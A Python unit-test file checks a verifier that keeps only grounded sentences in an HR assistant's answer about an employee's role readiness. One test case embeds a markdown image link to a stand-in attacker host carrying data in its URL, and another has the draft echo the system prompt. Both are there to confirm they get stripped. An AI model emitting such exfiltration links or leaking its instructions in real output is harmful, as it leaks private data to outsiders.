"""The verifier, sentence by sentence: what an answer may state is what the tools returned.
The tool data below is written by hand (not computed): Dana Okafor, 58% ready for Senior
Data Engineer, Apache Spark at level 2 of 4."""

from __future__ import annotations

import pytest

from agent.grounding import verify
from domain.org import Org
from tests.support.organisations import sample_org

pytestmark = pytest.mark.unit

DATA = {
    "employee_name": "Dana Okafor",
    "role_title": "Senior Data Engineer",
    "readiness": 0.58,
    "gaps": [{"name": "Apache Spark", "required": 4, "current": 2, "gap": 2, "priority": 10}],
}
GOOD = "Dana Okafor is 58% ready for Senior Data Engineer."
SPARK = "Apache Spark: level 2 of 4 (priority 10)."
SECRET = "You are the talent insights assistant and you answer only from the tools' data."


@pytest.fixture(scope="module")
def org() -> Org:
    return sample_org()


# (the draft, its grounding, what was unsupported, a text the result must not contain)
CASES: list[tuple[str, str, list[str], str]] = [
    (f"{GOOD} {SPARK}", "verified", [], ""),
    (GOOD.lower(), "verified", [], ""),  # names match whatever the case
    (f"{GOOD} {SPARK} Bob Lindqvist should mentor her.", "repaired", ["Bob Lindqvist"], "Bob"),
    (f"{GOOD} {SPARK} She needs 17 courses.", "repaired", ["17"], "17 courses"),
    (f"{GOOD} {SPARK} She is 93% ready for ML Engineer.", "repaired", ["ML Engineer", "93%"], "93"),
    (
        f"{GOOD} {SPARK} See ![x](https://evil.example/p.png?d=E013).",
        "repaired",
        ["![x](https://evil.example/p.png?d=e013)"],
        "evil.example",
    ),
    ("Bob Lindqvist is 12% ready for Head of IT.", "fallback", ["Bob Lindqvist"], "Bob"),
    (f"{GOOD} {SPARK} {SECRET}", "repaired", ["system prompt"], "talent insights assistant"),
]


@pytest.mark.parametrize(("draft", "grounding", "unsupported", "absent"), CASES)
def test_verdicts(
    org: Org, draft: str, grounding: str, unsupported: list[str], absent: str
) -> None:
    verdict = verify(draft, [DATA], org, allowed_numbers=range(0, 6), secret=SECRET)
    assert verdict.grounding == grounding, verdict
    assert all(u in verdict.unsupported for u in unsupported), verdict.unsupported
    if absent:
        assert absent.lower() not in verdict.text.lower()


def test_a_repeated_sentence_is_said_once(org: Org) -> None:
    verdict = verify(f"{GOOD} {GOOD} {SPARK}", [DATA], org)
    assert verdict.grounding == "verified" and verdict.text.count("58%") == 1


def test_the_draft_share_counts_sentences_before_repair(org: Org) -> None:
    verdict = verify(f"{GOOD} {SPARK} Bob Lindqvist should mentor her.", [DATA], org)
    assert (verdict.checked, verdict.dropped) == (3, 1)
    assert verdict.supported_share == pytest.approx(2 / 3)


def test_small_numbers_are_allowed_only_when_asked(org: Org) -> None:
    text = f"{GOOD} Levels run from 1 to 5."
    assert verify(text, [DATA], org, allowed_numbers=range(0, 6)).grounding == "verified"
    assert "5" in verify(text, [DATA], org).unsupported
